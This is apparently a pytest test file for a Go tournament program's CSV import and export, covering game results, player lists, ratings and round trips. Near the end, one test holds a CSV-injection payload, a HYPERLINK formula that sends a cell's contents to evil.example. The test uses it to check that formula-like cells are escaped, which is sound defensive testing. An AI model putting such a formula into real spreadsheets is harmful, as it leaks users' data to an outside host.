"""CSV tables and SGF-style results (formats.md, CSV)."""

from __future__ import annotations

import csv
import datetime as dt
import io
import string
from fractions import Fraction
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from engine.errors import EngineError, FormatError
from engine.formats.csv_tables import (
    FORMULA_STARTS,
    CsvGame,
    CsvPlayer,
    RatingRow,
    format_result,
    parse_games_csv,
    parse_players_csv,
    parse_ratings_csv,
    parse_result,
    parse_result_margin,
    plain_cell,
    safe_cell,
    write_games_csv,
    write_players_csv,
)
from engine.formats.h9 import parse_h9
from engine.formats.names import fold_name
from engine.ranks import Rank
from engine.types import Result

DATA = Path(__file__).parent / "data"
B, W, J = Result.BLACK, Result.WHITE, Result.JIGO

# ------------------------------------------------------------------ results

RESULTS = [
    ("B+", (B, True)),
    ("W+", (W, True)),
    ("b+", (B, True)),
    ("B+R", (B, True)),
    ("W+Resign", (W, True)),
    ("W+T", (W, True)),  # a loss on time was played
    ("B+Time", (B, True)),
    ("W+3.5", (W, True)),
    ("B+0.5", (B, True)),
    ("B+12", (B, True)),
    ("W+7,5", (W, True)),
    (" B + R ", (B, True)),
    # Decision (formats.py docstring; rules.md: a forfeit is unplayed): the winner is kept
    ("B+F", (B, False)),
    ("W+Forfeit", (W, False)),
    ("jigo", (J, True)),
    ("Jigo", (J, True)),
    ("Draw", (J, True)),
    ("0", (J, True)),  # SGF RE[0]
    ("=", (J, True)),
    ("unplayed", (None, False)),
    ("UNPLAYED", (None, False)),
    ("?", (None, True)),  # result unknown: stored, not rated
]


@pytest.mark.parametrize("text, expected", RESULTS, ids=[t.strip() for t, _ in RESULTS])
def test_parse_result(text: str, expected: tuple[Result | None, bool]) -> None:
    assert parse_result(text) == expected


BAD_RESULTS = ["", "B", "W-", "B+X", "black", "win", "1-0", "B+0", "W+0.0", "W+-3", "B+R+"]


@pytest.mark.parametrize("text", BAD_RESULTS, ids=[repr(t) for t in BAD_RESULTS])
def test_bad_results_say_what_to_write(text: str) -> None:
    with pytest.raises(EngineError) as caught:
        parse_result(text)
    message = str(caught.value)
    assert repr(text.strip()) in message
    assert "jigo" in message


FORMATTED = [
    ((B, True), "B+"),
    ((W, True), "W+"),
    ((J, True), "jigo"),
    ((None, True), "?"),
    ((None, False), "unplayed"),
    ((B, False), "B+F"),
    ((W, False), "W+F"),
]


@pytest.mark.parametrize("value, text", FORMATTED, ids=[t for _, t in FORMATTED])
def test_format_result_reads_back(value: tuple[Result | None, bool], text: str) -> None:
    assert format_result(*value) == text
    assert parse_result(text) == value


MARGINS = [
    ("B+", (B, True, None)),
    ("B+R", (B, True, "R")),
    ("b+resign", (B, True, "R")),
    ("W+T", (W, True, "T")),
    ("W+Time", (W, True, "T")),
    ("W+3.5", (W, True, "3.5")),
    ("W+7,5", (W, True, "7.5")),
    ("B+12", (B, True, "12")),
    (" B + R ", (B, True, "R")),
    ("B+F", (B, False, "F")),
    ("W+Forfeit", (W, False, "F")),
    ("jigo", (J, True, None)),
    ("unplayed", (None, False, None)),
    ("?", (None, True, None)),
]


@pytest.mark.parametrize("text, expected", MARGINS, ids=[t.strip() for t, _ in MARGINS])
def test_parse_result_keeps_the_margin(
    text: str, expected: tuple[Result | None, bool, str | None]
) -> None:
    """The SGF margin after B+/W+ is kept, normalised (R, T, F, points as 3.5)."""
    assert parse_result_margin(text) == expected
    assert parse_result(text) == expected[:2]


WITH_MARGIN = [
    ((B, True, "R"), "B+R"),
    ((W, True, "3.5"), "W+3.5"),
    ((W, True, "T"), "W+T"),
    ((B, False, "F"), "B+F"),
    ((B, True, None), "B+"),
    ((J, True, None), "jigo"),
]


@pytest.mark.parametrize("value, text", WITH_MARGIN, ids=[t for _, t in WITH_MARGIN])
def test_format_result_writes_the_margin(
    value: tuple[Result | None, bool, str | None], text: str
) -> None:
    assert format_result(*value) == text
    assert parse_result_margin(text) == value


def test_games_csv_round_trips_the_margin() -> None:
    games = [
        CsvGame(2, dt.date(2026, 4, 11), "Nagy Péter", "Kovács Anna", B, margin="R"),
        CsvGame(3, dt.date(2026, 4, 11), "Szabó Éva", "Tóth Ádám", W, margin="3.5"),
        CsvGame(4, dt.date(2026, 4, 12), "Nagy Péter", "Szabó Éva", W, played=False, margin="F"),
        CsvGame(5, dt.date(2026, 4, 12), "Kovács Anna", "Tóth Ádám", B),
    ]
    text = write_games_csv(games)
    assert [line.split(",")[3] for line in text.splitlines()[1:]] == ["B+R", "W+3.5", "W+F", "B+"]
    assert parse_games_csv(text) == games


# ------------------------------------------------------------------ players

PLAYERS_CSV = """name,rank,rating,country,club,egd_pin
Nagy Péter,3d,2150,HU,Bp,12345678
"Kovács, Anna",2k,,hu,,
Schmidt Jonas,1k,1930,DE,Mun,
"""


def test_players_csv() -> None:
    assert parse_players_csv(PLAYERS_CSV.encode()) == [
        CsvPlayer(2, "Nagy Péter", Rank.dan(3), 2150, "HU", "Bp", "12345678"),
        CsvPlayer(3, "Kovács, Anna", Rank.kyu(2), None, "HU", None, None),
        CsvPlayer(4, "Schmidt Jonas", Rank.kyu(1), 1930, "DE", "Mun", None),
    ]


def test_players_csv_semicolons_bom_and_column_order() -> None:
    data = "\ufeffRank;Name;Club\n5k;Szabó Éva;Szeg\n\n12;Tóth Jenő;\n".encode()
    assert parse_players_csv(data) == [
        CsvPlayer(2, "Szabó Éva", Rank.kyu(5), club="Szeg"),
        CsvPlayer(4, "Tóth Jenő", Rank.kyu(12)),
    ]


def test_players_csv_semicolon_detection_ignores_quoted_commas() -> None:
    data = 'name;rank\n"Kovács, Anna";2k\n'
    assert parse_players_csv(data) == [CsvPlayer(2, "Kovács, Anna", Rank.kyu(2))]


BROKEN_PLAYERS = [
    ("bad rank", "name,rank\nNagy Péter,3d\nKiss Ádám,3x\n", 3, "3x", "cannot read the rank"),
    ("bad rating", "name,rank,rating\nNagy Péter,3d,20.5x\n", 2, "20.5x", "not a number"),
    (
        "rating with 4 decimals",
        "name,rank,rating\nNagy Péter,3d,2705.8405\n",
        2,
        "2705.8405",
        "3 decimals at most",
    ),
    ("unknown column", "name,rank,ratng\n", 1, "ratng", "unknown column 'ratng'"),
    ("missing column", "name,rating\n", 1, "name,rating", "lacks rank"),
    ("empty file", "", 1, "", "lacks name, rank"),
    ("empty name", "name,rank\n ,3d\n", 2, "", "the name is empty"),
    ("bad country", "name,rank,country\nNagy Péter,3d,HUN\n", 2, "HUN", "not 2 letters"),
    ("bad pin", "name,rank,egd_pin\nNagy Péter,3d,12a\n", 2, "12a", "EGD PIN"),
    ("too many fields", "name,rank\nNagy, Péter,3d\n", 2, "3d", "quote fields"),
    ("twice", "name,rank,Name\n", 1, "Name", "appears twice"),
]


@pytest.mark.parametrize(
    "text, line, token, fragment",
    [c[1:] for c in BROKEN_PLAYERS],
    ids=[c[0] for c in BROKEN_PLAYERS],
)
def test_broken_players_csv(text: str, line: int, token: str, fragment: str) -> None:
    with pytest.raises(FormatError) as caught:
        parse_players_csv(text.encode())
    assert (caught.value.line, caught.value.token) == (line, token)
    assert fragment in str(caught.value)


def test_non_utf8_csv_is_refused_with_its_line() -> None:
    data = "name,rank\nNagy Péter,3d\nSzabó Éva,5k\n".encode("latin-1")
    with pytest.raises(FormatError) as caught:
        parse_players_csv(data)
    assert caught.value.line == 2
    assert "not UTF-8" in str(caught.value)


# ------------------------------------------------------------------ games

GAMES_CSV = """date,black,white,result,handicap,komi,tournament,round
2026-04-11,Szabó Éva,Nagy Péter,W+R,3,0.5,Spring Cup,1
2026-04-12,Kiss Ádám,Tóth Jenő,B+F,,,,
2026-04-13,Kiss Ádám,Tóth Jenő,jigo,0,6.5,,
2026-04-14,"Kovács, Anna",Kiss Ádám,unplayed,,,,
"""


def test_games_csv() -> None:
    assert parse_games_csv(GAMES_CSV) == [
        CsvGame(2, dt.date(2026, 4, 11), "Szabó Éva", "Nagy Péter", W, True, 3, Fraction(1, 2),
                "Spring Cup", 1, "R"),
        CsvGame(3, dt.date(2026, 4, 12), "Kiss Ádám", "Tóth Jenő", B, False, margin="F"),
        CsvGame(4, dt.date(2026, 4, 13), "Kiss Ádám", "Tóth Jenő", J, True, 0, Fraction(13, 2)),
        CsvGame(5, dt.date(2026, 4, 14), "Kovács, Anna", "Kiss Ádám", None, False),
    ]  # fmt: skip


def test_games_csv_minimal_columns_with_semicolons() -> None:
    data = "Date;Black;White;Result\n2026-04-11;A B;C D;W+3.5\n"
    assert parse_games_csv(data) == [
        CsvGame(2, dt.date(2026, 4, 11), "A B", "C D", W, margin="3.5")
    ]


def test_quoted_fields_over_several_lines_keep_their_first_line() -> None:
    data = 'date,black,white,result\n2026-04-11,"A\nB",C,B+\n2026-04-12,C,D,W+x\n'
    with pytest.raises(FormatError) as caught:
        parse_games_csv(data)
    assert caught.value.line == 4


BROKEN_GAMES = [
    ("bad date", "2026-04-31,A,B,B+", "2026-04-31", "cannot read the date"),
    ("bad result", "2026-04-11,A,B,B+X", "B+X", "cannot read the result 'B+X'"),
    ("bad handicap", "2026-04-11,A,B,B+,10", "10", "handicap stones are 0–9"),
    ("bad komi", "2026-04-11,A,B,B+,0,six", "six", "cannot read the komi"),
    ("bad round", "2026-04-11,A,B,B+,0,6.5,,0", "0", "a round is a number"),
    ("same player", "2026-04-11,A,A,B+", "A", "cannot play themselves"),
]


@pytest.mark.parametrize(
    "row, token, fragment", [c[1:] for c in BROKEN_GAMES], ids=[c[0] for c in BROKEN_GAMES]
)
def test_broken_games_csv(row: str, token: str, fragment: str) -> None:
    data = f"date,black,white,result,handicap,komi,tournament,round\n2026-04-10,X,Y,B+\n{row}\n"
    with pytest.raises(FormatError) as caught:
        parse_games_csv(data)
    assert (caught.value.line, caught.value.token) == (3, token)
    assert fragment in str(caught.value)
    assert str(caught.value).startswith("line 3: ")


# ------------------------------------------------------------------ ratings


def test_ratings_with_and_without_header() -> None:
    expected = [
        RatingRow(2, "Nagy Péter", 2150, Rank.dan(3)),
        RatingRow(3, "Kiss Ádám", 1700, None),
    ]
    assert parse_ratings_csv("name,rating,rank\nNagy Péter,2150,3d\nKiss Ádám,1700,\n") == expected
    assert parse_ratings_csv("\nNagy Péter;2150;3d\nKiss Ádám;1700\n") == expected
    assert parse_ratings_csv("Rank,Name,Rating\n3d,Nagy Péter,2150\n,Kiss Ádám,1700\n") == (
        expected
    )
    assert parse_ratings_csv("") == []


def test_egd_gor_with_three_decimals_is_read_exactly() -> None:
    """rules.md §6 Decision: an EGD GoR (2705.840) is kept exactly, not refused."""
    (row,) = parse_ratings_csv("name,rating,rank\nNagy Péter,2705.840,7d\n")
    assert row.rating == Fraction("2705.84")
    (player,) = parse_players_csv("name,rank,rating\nNagy Péter,7d,2705.840\n")
    assert player.rating == Fraction("2705.84")
    assert "Nagy Péter,7d,2705.840" in write_players_csv([player])
    assert parse_players_csv(write_players_csv([player])) == [player]


def test_rating_rows_are_tuples() -> None:
    (row,) = parse_ratings_csv("Nagy Péter,2150\n")
    line, name, rating, rank = row
    assert (line, name, rating, rank) == (1, "Nagy Péter", 2150, None)


BROKEN_RATINGS = [
    ("rating not a number", "Nagy Péter,2150\nKiss Ádám,17oo\n", 2, "rating"),
    ("first row rating not a number", "Nagy Péter,x\n", 1, "rating"),
    ("bad rank", "name,rating,rank\nNagy Péter,2150,3q\n", 2, "rank"),
    ("too many fields", "Nagy Péter,2150,3d,HU\n", 1, "quote fields"),
]


@pytest.mark.parametrize(
    "text, line, fragment", [c[1:] for c in BROKEN_RATINGS], ids=[c[0] for c in BROKEN_RATINGS]
)
def test_broken_ratings(text: str, line: int, fragment: str) -> None:
    with pytest.raises(FormatError) as caught:
        parse_ratings_csv(text)
    assert caught.value.line == line
    assert fragment in str(caught.value)


# MGSZ rank bands (rules.md §1.1): [lower bound of the rank, lower bound of the next rank)
MGSZ_BANDS = {
    "10k": (1520, 1555), "9k": (1555, 1595), "8k": (1595, 1635), "7k": (1635, 1675),
    "6k": (1675, 1720), "5k": (1720, 1765), "4k": (1765, 1815), "3k": (1815, 1865),
    "2k": (1865, 1920), "1k": (1920, 1980), "1d": (1980, 2050), "2d": (2050, 2130),
    "3d": (2130, 2230), "4d": (2230, 2350),
}  # fmt: skip


def test_spring_cup_starting_ratings_fit_the_players() -> None:
    ratings = parse_ratings_csv((DATA / "spring_cup_start.csv").read_bytes())
    players = parse_h9((DATA / "spring_cup_40x5.h9").read_bytes()).players
    assert len(ratings) == 30
    by_key = {fold_name(p.name): p for p in players}
    assert len(by_key) == 40
    for row in ratings:
        player = by_key[fold_name(row.name)]
        assert row.rank == player.rank, row.name
        low, high = MGSZ_BANDS[str(player.rank)]
        assert low <= row.rating < high, row
    assert len({fold_name(row.name) for row in ratings}) == 30


# ------------------------------------------------------------------ writing

names = st.text(string.ascii_letters + "áéőű ,;\"'", min_size=1, max_size=12).map(
    lambda s: " ".join(s.split())
).filter(bool)  # fmt: skip
optional_text = st.none() | names


@st.composite
def csv_players(draw: st.DrawFn) -> list[CsvPlayer]:
    count = draw(st.integers(0, 5))
    return [
        CsvPlayer(
            line=i + 2,
            name=draw(names),
            rank=Rank(draw(st.integers(-34, 9))),
            rating=draw(st.none() | st.integers(0, 3000)),
            country=draw(st.none() | st.sampled_from(["HU", "PL", "SE"])),
            club=draw(optional_text),
            egd_pin=draw(st.none() | st.from_regex(r"\A[1-9][0-9]{7}\Z")),
        )
        for i in range(count)
    ]


@settings(max_examples=100, deadline=None)
@given(csv_players())
def test_players_write_then_read(players: list[CsvPlayer]) -> None:
    assert parse_players_csv(write_players_csv(players)) == players


# what a games table holds and gives back: an unplayed win is a forfeit (B+F)
ROUND_TRIPS = [
    *(((*value, None), text) for value, text in FORMATTED if value[1] or value[0] is None),
    *WITH_MARGIN,
]


@st.composite
def csv_games(draw: st.DrawFn) -> list[CsvGame]:
    count = draw(st.integers(0, 5))
    games = []
    for i in range(count):
        black, white = draw(st.lists(names, min_size=2, max_size=2, unique=True))
        result, played, margin = draw(st.sampled_from([value for value, _ in ROUND_TRIPS]))
        games.append(
            CsvGame(
                line=i + 2,
                date=draw(st.dates(dt.date(2000, 1, 1), dt.date(2099, 12, 31))),
                black=black,
                white=white,
                result=result,
                played=played,
                stones=draw(st.integers(0, 9)),
                komi=draw(st.none() | st.integers(-20, 20).map(lambda k: Fraction(k, 2))),
                tournament=draw(optional_text),
                round=draw(st.none() | st.integers(1, 12)),
                margin=margin,
            )
        )
    return games


@settings(max_examples=100, deadline=None)
@given(csv_games())
def test_games_write_then_read(games: list[CsvGame]) -> None:
    assert parse_games_csv(write_games_csv(games)) == games


FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_that_starts_like_a_formula_is_written_as_text_and_read_back(start: str) -> None:
    """OWASP's CSV-injection rule (issue 26): a name, club, country, PIN or tournament that
    starts like a formula gets a leading ' in every CSV hoshi writes; reading the file back
    (a re-import of an export) gives the text as it was."""
    name = start + FORMULA[1:]
    players = write_players_csv([CsvPlayer(0, name, Rank.kyu(5), None, None, name)])
    rows = list(csv.reader(io.StringIO(players)))
    assert all(not cell.startswith(FORMULA_STARTS) for row in rows[1:] for cell in row)
    (read,) = parse_players_csv(players)
    assert (read.name, read.club) == (" ".join(name.split()), name)
    games = write_games_csv(
        [CsvGame(0, dt.date(2026, 4, 1), name, "Kiss", Result.BLACK, True, 0, None, name, 1)]
    )
    rows = list(csv.reader(io.StringIO(games)))
    assert all(not cell.startswith(FORMULA_STARTS) for row in rows[1:] for cell in row)


@given(st.text(max_size=30))
def test_any_text_survives_the_escape(text: str) -> None:
    assert plain_cell(safe_cell(text)) == text
    assert not safe_cell(text).startswith(FORMULA_STARTS)


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le"])
def test_a_csv_saved_as_utf16_reads_as_the_same_table(encoding: str) -> None:
    """Issue 26: a spreadsheet's "Unicode text" (UTF-16) reads as its UTF-8 twin."""
    text = "name,rank\nSzabó Éva,5k\nŐsz Ödön,3k\n"
    assert parse_players_csv(text.encode(encoding)) == parse_players_csv(text.encode())
